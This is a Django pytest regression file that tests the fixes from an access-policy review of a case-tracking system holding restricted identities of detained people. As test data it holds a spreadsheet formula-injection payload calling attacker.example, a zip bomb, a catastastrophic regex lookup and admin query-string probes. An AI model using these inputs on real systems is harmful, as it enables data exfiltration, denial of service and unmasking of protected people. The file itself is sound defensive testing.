"""One regression test per finding of the access-policy review, each tried as its finder did.

The leak and write matrices cover every door generically; these name each door that was
open, so a regression says which.
"""

import io
import json
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import override_settings
from django.urls import reverse
from rest_framework.test import APIClient

from casetracker.api.models import ApiToken
from casetracker.cases.models import (
    Alias,
    Citation,
    Event,
    Person,
    PublicationState,
    Revision,
)
from casetracker.cases.services import person_merge
from casetracker.intake.models import ImportBatch
from tests.browserform import submitted
from tests.factories import (
    AliasFactory,
    CitationFactory,
    EventFactory,
    OrganisationFactory,
    PersonFactory,
    ProceedingFactory,
    RelationshipFactory,
    SourceFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db
PUBLISHED, DRAFT = PublicationState.PUBLISHED, PublicationState.DRAFT


def revert_post(client, model, record):
    """The revert form of ``record``'s first version, as posted by a browser."""
    opts = model._meta
    first = model.history.filter(id=record.pk).order_by("history_id").first()
    url = reverse(f"admin:{opts.app_label}_{opts.model_name}_simple_history",
                  args=[record.pk, first.history_id])
    return url, submitted(client.get(url).content.decode())


# 1. The history revert form saved on POST after checking only view permission.

def test_1_a_viewer_cannot_revert_a_record(client, viewer, superuser):
    person = PersonFactory(summary="Before")
    person.summary = "After"
    person.save()
    client.force_login(superuser)
    url, data = revert_post(client, Person, person)
    data["publication_state"] = ["draft"]
    client.force_login(viewer)
    assert client.post(url, data).status_code == 403
    person.refresh_from_db()
    assert (person.summary, person.publication_state) == ("After", PUBLISHED)


def test_1_an_editors_revert_of_a_published_record_waits_for_review(client, editor, superuser):
    person = PersonFactory(summary="Before", is_restricted=False)
    person.summary = "After"
    person.save()
    client.force_login(superuser)
    url, data = revert_post(client, Person, person)
    client.force_login(editor)
    client.post(url, data)
    person.refresh_from_db()
    assert (person.summary, person.publication_state) == ("After", PUBLISHED)
    revision = Revision.objects.get()
    assert revision.changes == {"summary": ["After", "Before"]}  # not its state


def test_1_a_revert_cannot_lift_a_restriction(client, editor, superuser):
    event = EventFactory(publication_state=DRAFT, place="Secret", place_is_restricted=False)
    event.place_is_restricted = True
    event.save()
    client.force_login(superuser)
    url, data = revert_post(client, Event, event)  # the first version: not restricted
    client.force_login(editor)
    client.post(url, data)
    event.refresh_from_db()
    assert event.place_is_restricted


# 2. Viewers and editors read restricted identities across the admin.

def test_2_read_only_forms_mask_real_names_and_restricted_places(client, viewer):
    person = PersonFactory(is_pseudonym=True, real_name="Hidden Realname")
    EventFactory(person=person, place="Hidden Prison", place_is_restricted=True)
    client.force_login(viewer)
    for url in (reverse("admin:cases_person_change", args=[person.pk]),
                reverse("admin:cases_event_change", args=[person.events.get().pk]),
                reverse("admin:cases_person_history", args=[person.pk]),
                reverse("admin:cases_person_record_history", args=[person.pk])):
        page = client.get(url).content.decode()
        assert "Hidden Realname" not in page and "Hidden Prison" not in page, url
    assert "(restricted)" in client.get(
        reverse("admin:cases_person_change", args=[person.pk])).content.decode()


def test_2_history_of_a_restricted_record_is_hidden(client, editor):
    person = PersonFactory(is_restricted=True, summary="Secret summary")
    client.force_login(editor)
    assert client.get(reverse("admin:cases_person_history", args=[person.pk])).status_code \
        == 404
    first = person.history.get()
    assert client.get(reverse("admin:cases_person_simple_history",
                              args=[person.pk, first.history_id])).status_code == 404


def test_2_child_lists_and_autocomplete_leave_restricted_people_out(client, editor):
    hidden = PersonFactory(name="Hidden Witness", is_restricted=True)
    EventFactory(person=hidden, is_restricted=False)
    RelationshipFactory(person=hidden, relative=PersonFactory(name="Open Relative"))
    client.force_login(editor)
    for url in ("/admin/cases/event/", "/admin/cases/relationship/",
                "/admin/autocomplete/?app_label=cases&model_name=citation&field_name=event"
                "&term="):
        assert "Hidden Witness" not in client.get(url).content.decode(), url


def test_2_merge_reasons_name_no_one(client, editor, reviewer):
    pseudonym = PersonFactory(name="Pen Name", is_pseudonym=True)
    duplicate = PersonFactory(name="The Real Name", is_restricted=True)
    person_merge(keep=pseudonym, duplicate=duplicate, user=reviewer)
    client.force_login(editor)
    page = client.get(reverse("admin:cases_person_record_history", args=[pseudonym.pk]))
    assert "The Real Name" not in page.content.decode()
    assert f"Merged person ID {duplicate.pk} into person ID {pseudonym.pk}" in \
        page.content.decode()


def test_2_intake_pages_offer_only_what_the_user_may_see(client, editor):
    hidden = PersonFactory(name="Hidden Witness", is_restricted=True)
    PersonFactory(name="Hidden Witnes")  # a likely duplicate of the hidden one
    SourceFactory(title="Restricted Dossier", is_restricted=True)
    client.force_login(editor)
    assert "Restricted Dossier" not in client.get(reverse("intake:import")).content.decode()
    assert "Hidden Witness" not in client.get(reverse("intake:duplicates")).content.decode()
    upload = SimpleUploadedFile("probe.csv", f"person_id,occupation\n{hidden.pk},x\n".encode())
    client.post(reverse("intake:import"), {"file": upload})
    report = ImportBatch.objects.get().report
    assert report["rows"][0]["problems"] == [
        f"Row 2, column 'person_id': '{hidden.pk}' is not the ID of a recorded person: "
        "leave it empty to add a new person"]
    assert "Hidden Witness" not in json.dumps(report)


# 3. A restricted duplicate merged into a pseudonymous case linked the two publicly.

def test_3_a_merged_away_record_redirects_only_if_it_was_public(client, reviewer):
    pseudonym = PersonFactory(name="Pen Name", is_pseudonym=True)
    restricted = PersonFactory(name="Real Name", is_restricted=True)
    public = PersonFactory(name="Pen Name Spelled Otherwise")
    person_merge(keep=pseudonym, duplicate=restricted, user=reviewer)
    person_merge(keep=pseudonym, duplicate=public, user=reviewer)
    assert client.get(f"/cases/{restricted.slug}/").status_code == 404
    assert APIClient().get(f"/api/v1/people/{restricted.pk}/").status_code == 404
    assert client.get(f"/cases/{public.slug}/").status_code == 301
    assert APIClient().get(f"/api/v1/people/{public.pk}/").status_code == 301


# 4. Editors changed published content (aliases, citations) with no review.

def test_4_an_editors_alias_and_citation_changes_to_published_records_wait(client, editor):
    person = PersonFactory()
    alias = AliasFactory(person=person, name="Old Spelling")
    citation = CitationFactory(event=EventFactory(person=person), passage="As published.")
    client.force_login(editor)
    for url, changes in ((reverse("admin:cases_alias_change", args=[alias.pk]),
                          {"name": ["New Spelling"]}),
                         (reverse("admin:cases_citation_change", args=[citation.pk]),
                          {"passage": ["Edited passage."]})):
        data = submitted(client.get(url).content.decode())
        client.post(url, {**data, **changes})
    client.post(reverse("admin:cases_citation_delete", args=[citation.pk]), {"post": "yes"})
    client.post(reverse("admin:cases_alias_add"), {"person": person.pk, "name": "Added",
                                                   "script": "Latn"})
    alias.refresh_from_db()
    citation.refresh_from_db()
    assert (alias.name, citation.passage) == ("Old Spelling", "As published.")
    assert not Alias.objects.filter(name="Added").exists()
    assert sorted(Revision.objects.values_list("action", flat=True)) == [
        "add", "change", "change", "delete"]
    api = APIClient().get(f"/api/v1/people/{person.pk}/").json()
    assert api["aliases"] == ["Old Spelling"]
    assert api["events"][0]["sources"][0]["passage"] == "As published."


def test_4_a_reviewer_approves_and_the_public_sees_it(client, editor, reviewer):
    person = PersonFactory()
    alias = AliasFactory(person=person, name="Old Spelling")
    client.force_login(editor)
    url = reverse("admin:cases_alias_change", args=[alias.pk])
    client.post(url, {**submitted(client.get(url).content.decode()), "name": ["New Spelling"]})
    revision = Revision.objects.get()
    client.force_login(reviewer)
    client.post(reverse("admin:cases_revision_change", args=[revision.pk]), {"_approve": "1"})
    alias.refresh_from_db()
    assert alias.name == "New Spelling"
    assert alias.history.first().history_user == reviewer
    assert APIClient().get(f"/api/v1/people/{person.pk}/").json()["aliases"] == ["New Spelling"]


# 5. A partner's empty PATCH read staff data back and unpublished the record.

def test_5_an_empty_patch_shows_the_partners_own_and_unpublishes_nothing():
    partner = UserFactory(username="partner-org")
    _token, key = ApiToken.issue(user=partner, name="sync", can_write=True)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    person = PersonFactory()
    event_id = api.post("/api/v1/events/", {"person": person.pk, "kind": "arrest"},
                        format="json").json()["id"]
    event = Event.objects.get(pk=event_id)
    event.place, event.place_is_restricted = "Staff's secret place", True
    event.publication_state = PUBLISHED
    event.save()
    answer = api.patch(f"/api/v1/events/{event_id}/", {}, format="json")
    assert answer.status_code == 200
    assert "Staff's secret place" not in answer.content.decode()
    assert answer.json()["place_is_restricted"] is False  # what the partner sent
    event.refresh_from_db()
    assert event.publication_state == PUBLISHED
    mine = api.post("/api/v1/people/", {"name": "Partner Person", "country": "TJ"},
                    format="json").json()["id"]
    Person.objects.filter(pk=mine).update(summary="Written by staff",
                                          publication_state=PUBLISHED)
    answer = api.patch(f"/api/v1/people/{mine}/", {"status": "released"}, format="json")
    assert "Written by staff" not in answer.content.decode()
    assert answer.json()["pending_review"] is True
    assert Person.objects.get(pk=mine).status != "released"


# 6. The staff export held live formulas a partner could plant.

def test_6_the_staff_export_holds_no_formula(client, reviewer):
    PersonFactory(name="=WEBSERVICE(\"http://attacker.example/\"&A1)", summary="+1")
    client.force_login(reviewer)
    csv = client.get(reverse("intake:export"), {"format": "csv"}).content.decode()
    assert "'=WEBSERVICE" in csv and "'+1" in csv
    xlsx = client.get(reverse("intake:export"), {"format": "xlsx"}).content
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "WEBSERVICE" in sheet


# 7. Editors could unmask a restricted place by unticking "place is restricted".

def test_7_an_editor_cannot_untick_a_restriction(client, editor):
    event = EventFactory(publication_state=DRAFT, place="Secret Place", place_is_restricted=True)
    client.force_login(editor)
    url = reverse("admin:cases_event_change", args=[event.pk])
    data = submitted(client.get(url).content.decode())
    assert "place_is_restricted" not in data  # disabled, not sent
    data.pop("place_is_restricted", None)
    response = client.post(url, data)
    event.refresh_from_db()
    assert event.place_is_restricted and event.place == "Secret Place"
    assert "Secret Place" not in response.content.decode()


# 8. The login lockout ignored PROXY_COUNT and locked everyone behind the proxy out.

@override_settings(PROXY_COUNT=1)
def test_8_behind_a_proxy_one_clients_failures_lock_only_that_client(client):
    UserFactory(username="staffer", is_staff=True)
    url = reverse("admin:login")
    for _ in range(5):
        client.post(url, {"username": "staffer", "password": "wrong"},
                    HTTP_X_FORWARDED_FOR="203.0.113.7", REMOTE_ADDR="10.0.0.1")
    locked = client.post(url, {"username": "staffer", "password": "wrong"},
                         HTTP_X_FORWARDED_FOR="203.0.113.7", REMOTE_ADDR="10.0.0.1")
    assert locked.status_code == 429
    other = client.post(url, {"username": "staffer", "password": "correct horse battery staple"},
                        HTTP_X_FORWARDED_FOR="198.51.100.2", REMOTE_ADDR="10.0.0.1")
    assert other.status_code == 302  # logged in


# 9. The public site had no rate limit; bad tokens bypassed the API's.

def test_9_public_pages_and_csv_are_rate_limited_per_address(client, settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {
        **settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "site": "3/min",
        "site_export": "2/min"}}
    assert [client.get("/cases/").status_code for _ in range(4)] == [200, 200, 200, 429]
    assert [client.get("/cases.csv").status_code for _ in range(3)] == [200, 200, 429]
    response = client.get("/cases/?q=x")
    assert response.status_code == 429 and int(response["Retry-After"]) > 0
    assert client.get("/cases/", REMOTE_ADDR="192.0.2.9").status_code == 200  # another address


def test_9_a_bad_token_is_throttled_like_no_token(settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {
        **settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"], "anon": "3/min"}}
    api = APIClient()
    answers = [api.get("/api/v1/people/", HTTP_AUTHORIZATION="Token not-a-token").status_code
               for _ in range(4)]
    assert answers == [401, 401, 401, 429]
    assert api.get("/api/v1/people/").status_code == 429  # the same address, no token


# 10. Uploads exhausted workers, NUL bytes were 500s, Latin-1 was read as Cyrillic.

def test_10_uploads_past_the_limits_are_refused_with_a_message(client, editor):
    client.force_login(editor)
    rows = "name,country\n" + "A Person,TJ\n" * 20_001
    response = client.post(reverse("intake:import"),
                           {"file": SimpleUploadedFile("big.csv", rows.encode())})
    assert "more than 20,000 rows" in response.content.decode()
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"<x/>" + b" " * 150_000_000)
    response = client.post(reverse("intake:import"),
                           {"file": SimpleUploadedFile("bomb.xlsx", bomb.getvalue())})
    assert "unpacks to 143 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_10_a_nul_byte_rejects_its_row_and_latin_1_is_read_as_latin_1(client, editor):
    client.force_login(editor)
    sheet = "name,country\nJ\u00fcrgen M\u00fcller,DE\nBad\x00Name,TJ\n".encode("latin-1")
    client.post(reverse("intake:import"), {"file": SimpleUploadedFile("latin.csv", sheet)})
    report = ImportBatch.objects.get().report
    assert report["encoding"].startswith("Windows-1252 (Western)")
    assert "creates person Jürgen Müller (draft)" in report["rows"][0]["notes"]
    assert "contains a NUL character" in report["rows"][1]["problems"][0]


def test_10_a_long_article_gives_a_bounded_review_in_pages(client, reviewer):
    from casetracker.intake.services import MAX_PROPOSALS

    given = ["Alisher", "Bahrom", "Davron", "Farhod", "Gulnora", "Hamid", "Ilhom", "Jamshed",
             "Karim", "Lola", "Mansur", "Nodir", "Oybek", "Parviz", "Rustam", "Sardor",
             "Timur", "Umid", "Vali", "Zafar"]
    family = [f"{name[:3]}{ending}" for name in given for ending in ("ov",)]
    text = " ".join(f"{first} {last}zoda was arrested on 3 May 2016." for first in given
                    for last in family)
    client.force_login(reviewer)
    response = client.post(reverse("intake:article_add"), {
        "title": "Long", "publisher": "X", "language": "en", "country": "TJ", "text": text})
    from casetracker.intake.models import ArticleIntake

    article = ArticleIntake.objects.get()
    intake = reverse("intake:article_review", args=[article.pk])
    assert response["Location"] == intake
    assert article.proposals.count() == MAX_PROPOSALS and article.proposals_left_out > 0
    page = client.get(intake)
    assert len(page.context["form"].forms) == 50
    assert "proposals were left out" in page.content.decode()
    assert page.context["page_obj"].paginator.num_pages == MAX_PROPOSALS // 50


# 11. Reference data only hidden records used was public; partner writes revealed records.

def test_11_reference_data_of_hidden_records_is_not_public(client):
    hidden_use = OrganisationFactory(slug="secret-unit")
    ProceedingFactory(court=hidden_use, person=PersonFactory(publication_state=DRAFT))
    assert client.get("/organisations/secret-unit/").status_code == 404
    assert APIClient().get(f"/api/v1/organisations/{hidden_use.pk}/").status_code == 404


def test_11_a_partners_write_does_not_reveal_hidden_records():
    PersonFactory(external_id="P-1", is_restricted=True)
    SourceFactory(slug="hidden-source", is_restricted=True)
    partner = UserFactory(username="partner-org")
    _token, key = ApiToken.issue(user=partner, name="sync", can_write=True)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    person = api.post("/api/v1/people/", {"name": "X", "country": "TJ", "external_id": "P-1"},
                      format="json")
    source = api.post("/api/v1/sources/", {"title": "T", "publisher": "P",
                                           "slug": "hidden-source"}, format="json")
    assert (person.status_code, source.status_code) == (201, 201)
    assert source.json()["slug"] == "hidden-source"  # what it sent, not the stored variant
    again = api.post("/api/v1/people/", {"name": "Y", "country": "TJ", "external_id": "P-1"},
                     format="json")
    assert again.status_code == 400  # its own external ID, taken by its own record


def test_policy_knows_every_admin_page():
    """A model admin that does not ask the policy stops the start-up (casetracker.E001)."""
    from django.contrib import admin

    from casetracker.checks import admin_pages_ask_the_policy
    from casetracker.intake.models import NotDuplicate

    registered = admin.site.get_model_admin(NotDuplicate)
    admin.site.unregister(NotDuplicate)
    admin.site.register(NotDuplicate, admin.ModelAdmin)
    try:
        errors = admin_pages_ask_the_policy()
    finally:
        admin.site.unregister(NotDuplicate)
        admin.site.register(NotDuplicate, type(registered))
    assert [error.id for error in errors] == ["casetracker.E001"]
    assert admin_pages_ask_the_policy() == []


def test_citations_of_hidden_facts_are_hidden_with_them(client, editor):
    person = PersonFactory(is_restricted=True)
    CitationFactory(event=EventFactory(person=person), passage="A passage about them.")
    client.force_login(editor)
    assert "A passage about them." not in client.get("/admin/cases/citation/").content.decode()
    assert Citation.objects.count() == 1


# The attacker's review of the policy (a helper, cold, with every role and door).

def test_attack_1_no_changelist_lookup_reads_a_restricted_value(client, viewer):
    """Django admits any lookup on a model's own fields in the query string; a lookup
    filters on the stored value, so it would spell a masked value out letter by letter."""
    PersonFactory(is_pseudonym=True, real_name="Secret Realname")
    EventFactory(place="Secret Place", place_is_restricted=True)
    client.force_login(viewer)
    for url in ("/admin/cases/person/?real_name__startswith=S",
                "/admin/cases/event/?place__startswith=S",
                "/admin/cases/detention/?place__regex=.",
                "/admin/cases/revision/?changes__icontains=Secret",
                "/admin/cases/person/?name_key__iregex=(a%2B)%2B"):
        assert client.get(url).status_code == 400, url
    # The list's own filters still work.
    assert client.get("/admin/cases/event/?kind__exact=arrest").status_code == 200


def test_attack_2_moving_a_part_onto_a_published_record_waits_for_review(client, editor):
    published, draft = PersonFactory(), PersonFactory(publication_state=DRAFT)
    alias = AliasFactory(person=draft, name="Moved Spelling")
    client.force_login(editor)
    url = reverse("admin:cases_alias_change", args=[alias.pk])
    client.post(url, {**submitted(client.get(url).content.decode()),
                      "person": [str(published.pk)]})
    alias.refresh_from_db()
    assert alias.person == draft
    assert Revision.objects.get().changes["person"] == [str(draft.pk), str(published.pk)]


def test_attack_3_accepting_a_spelling_of_a_published_person_waits_for_review(client, editor):
    from casetracker.intake.models import Proposal
    from casetracker.intake.services import article_intake_create, proposal_accept

    person = PersonFactory(name="Abdul Khalil")
    intake = article_intake_create(title="T", publisher="P", user=editor,
                                   text="Abdul Khalil was arrested on 3 May 2016.")
    proposal = intake.proposals.get(kind=Proposal.Kind.PERSON)
    proposal_accept(proposal=proposal, user=editor, name="Abdoul Khalil", person=person)
    assert not person.aliases.exists()
    assert Revision.objects.get().action == "add"


def test_attack_4_a_partner_lifts_no_restriction_staff_set():
    partner = UserFactory(username="partner-org")
    _token, key = ApiToken.issue(user=partner, name="sync", can_write=True)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    event_id = api.post("/api/v1/events/", {"person": PersonFactory().pk, "kind": "arrest"},
                        format="json").json()["id"]
    Event.objects.filter(pk=event_id).update(place="Staff's place", place_is_restricted=True)
    assert api.patch(f"/api/v1/events/{event_id}/", {"place_is_restricted": False},
                     format="json").status_code == 200
    assert Event.objects.get(pk=event_id).place_is_restricted


def test_attack_5_the_dry_run_masks_a_restricted_place_it_would_replace(client, editor):
    event = EventFactory(publication_state=DRAFT, place="Secret Draft Place",
                         place_is_restricted=True)
    client.force_login(editor)
    sheet = (f"person_id,event_id,event_place\n{event.person_id},{event.pk},A New Place\n"
             ).encode()
    client.post(reverse("intake:import"), {"file": SimpleUploadedFile("p.csv", sheet)})
    report = json.dumps(ImportBatch.objects.get().report)
    assert "Secret Draft Place" not in report and "A New Place" in report


def test_attack_6_a_proposed_restricted_alias_is_hidden_with_it(client, editor, viewer):
    person = PersonFactory()
    client.force_login(editor)
    client.post(reverse("admin:cases_alias_add"), {"person": person.pk, "name": "Secret Alias",
                                                   "script": "Latn", "is_restricted": "on"})
    revision = Revision.objects.get()
    client.force_login(viewer)
    assert "Secret Alias" not in client.get(
        reverse("admin:cases_person_change", args=[person.pk])).content.decode()
    assert client.get(reverse("admin:cases_revision_change",
                              args=[revision.pk])).status_code == 302  # not found for them


def test_attack_7_a_name_later_made_the_real_name_is_masked_in_history(client, viewer, reviewer):
    person = PersonFactory(name="Ivan Truename", publication_state=DRAFT)
    person.name, person.is_pseudonym, person.real_name = "Pseudo Ivan", True, "Ivan Truename"
    person.publication_state = PUBLISHED
    person.save()
    client.force_login(viewer)
    first = person.history.order_by("history_id").first()
    for url in (reverse("admin:cases_person_history", args=[person.pk]),
                reverse("admin:cases_person_simple_history", args=[person.pk,
                                                                   first.history_id]),
                reverse("admin:cases_person_record_history", args=[person.pk])):
        assert "Truename" not in client.get(url).content.decode(), url


def test_attack_8_list_filters_and_counts_see_only_what_the_user_may(client, viewer):
    person = PersonFactory(name="Open Person")
    EventFactory(person=person, kind="torture", date="1901", is_restricted=True)
    open_event = EventFactory(person=person, kind="arrest", date="2015")
    CitationFactory(event=open_event, source=SourceFactory(is_restricted=True))
    client.force_login(viewer)
    assert client.get("/admin/cases/person/?event_kind=torture").context["cl"].result_count == 0
    assert client.get("/admin/cases/person/?year=1901").context["cl"].result_count == 0
    assert client.get("/admin/cases/event/?sourcing=unsourced").context["cl"].result_count == 1
    page = client.get("/admin/cases/event/")
    assert "1901" not in page.content.decode()
    assert [event.citation_count for event in page.context["cl"].result_list] == [0]
    people = client.get("/admin/cases/person/").context["cl"].result_list
    assert [p.source_count for p in people] == [0]


def test_attack_9_doors_that_answered_500(client, editor, reviewer):
    partner = UserFactory(username="partner-org")
    _token, key = ApiToken.issue(user=partner, name="sync", can_write=True)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    proceeding = api.post("/api/v1/proceedings/", {"person": PersonFactory().pk},
                          format="json").json()["id"]
    from casetracker.cases.models import Proceeding

    Proceeding.objects.filter(pk=proceeding).update(publication_state=PUBLISHED)
    from tests.factories import ChargeFactory, ProceedingChargeFactory

    ProceedingChargeFactory(proceeding_id=proceeding, charge=ChargeFactory(name="fraud"))
    api.patch(f"/api/v1/proceedings/{proceeding}/", {"charges": []}, format="json")
    revision = Revision.objects.get(action="delete")
    client.force_login(reviewer)
    assert client.get(reverse("admin:cases_revision_change",
                              args=[revision.pk])).status_code == 200
    assert client.get("/admin/cases/person/1/history/abc/").status_code == 404
    draft = PersonFactory(publication_state=DRAFT)
    other = AliasFactory(name="Someone Else's")
    client.force_login(editor)
    url = reverse("admin:cases_person_change", args=[draft.pk])
    data = submitted(client.get(url).content.decode())
    data.update({"aliases-TOTAL_FORMS": ["1"], "aliases-0-id": [str(other.pk)],
                 "aliases-0-name": ["Stolen"], "aliases-0-script": ["Latn"],
                 "aliases-0-person": [str(draft.pk)]})
    assert client.post(url, data).status_code == 200  # a form error, as for any unknown id
    other.refresh_from_db()
    assert (other.name, other.person_id) == ("Someone Else's", other.person_id)


def test_attack_10_sources_page_documents_no_one_through_a_hidden_relationship(client):
    from tests.public.cases import cite

    public, hidden = PersonFactory(name="Public Relative"), PersonFactory(is_restricted=True)
    cite(SourceFactory(title="A Report"), RelationshipFactory(person=hidden, relative=public),
         "They are related.")
    assert "Public Relative" not in client.get("/sources/").content.decode()


def test_attack_11_a_partner_cannot_tell_a_hidden_organisation_from_none():
    hidden = OrganisationFactory(slug="secret-org")
    from tests.factories import AffiliationFactory

    AffiliationFactory(organisation=hidden, person=PersonFactory(is_restricted=True))
    partner = UserFactory(username="partner-org")
    _token, key = ApiToken.issue(user=partner, name="sync", can_write=True)
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {key}")
    person = PersonFactory()
    answers = [api.post("/api/v1/events/", {"person": person.pk, "kind": "arrest",
                                            "perpetrator": slug}, format="json")
               for slug in ("secret-org", "no-such-org")]
    assert [answer.status_code for answer in answers] == [400, 400]
    assert answers[0].json()["errors"]["perpetrator"][0].replace("secret-org", "x") == \
        answers[1].json()["errors"]["perpetrator"][0].replace("no-such-org", "x")


def test_attack_12_a_slug_of_a_hidden_record_is_no_answer(client, editor):
    PersonFactory(name="Secret Person", slug="secret-person", is_restricted=True)
    client.force_login(editor)
    response = client.post(reverse("admin:cases_person_add"), {
        "name": "Another", "slug": "secret-person", "country": "TJ", "sex": "unknown",
        "status": "unknown", "involvement": "target", "publication_state": "draft",
        **{f"{prefix}-{key}": value for prefix in (
            "aliases", "affiliations", "relationships", "reverse_relationships", "events",
            "proceedings", "detentions")
           for key, value in (("TOTAL_FORMS", "0"), ("INITIAL_FORMS", "0"))}})
    assert response.status_code == 302, response.content.decode()[-2000:]
    assert Person.objects.get(name="Another").slug == "secret-person-2"


def test_attack_14_an_article_naming_a_hidden_person_is_read_as_any_other(editor):
    from casetracker.intake.services import article_intake_create

    PersonFactory(name="Rustam Hiddenov", is_restricted=True)
    intake = article_intake_create(title="T", publisher="P", user=editor,
                                   text="Rustam Hiddenov was arrested on 3 May 2016.")
    proposals = list(intake.proposals.filter(kind="person"))
    assert [(p.name, p.person) for p in proposals] == [("Rustam Hiddenov", None)]


def test_attack_17_a_merge_publishes_nothing_the_duplicate_kept_hidden(reviewer):
    keep = PersonFactory(name="Kept Case")
    restricted = PersonFactory(name="Restricted Duplicate", is_restricted=True)
    AliasFactory(person=restricted, name="Its Spelling")
    EventFactory(person=restricted, description="Its arrest")
    draft = PersonFactory(name="Draft Duplicate", publication_state=DRAFT)
    EventFactory(person=draft, description="A published fact of a draft")
    person_merge(keep=keep, duplicate=restricted, user=reviewer)
    person_merge(keep=keep, duplicate=draft, user=reviewer)
    assert keep.aliases.get(name="Its Spelling").is_restricted
    assert keep.events.get(description="Its arrest").is_restricted
    assert keep.events.get(description="A published fact of a draft").publication_state == DRAFT
    record = APIClient().get(f"/api/v1/people/{keep.pk}/").json()
    assert record["aliases"] == [] and record["events"] == []
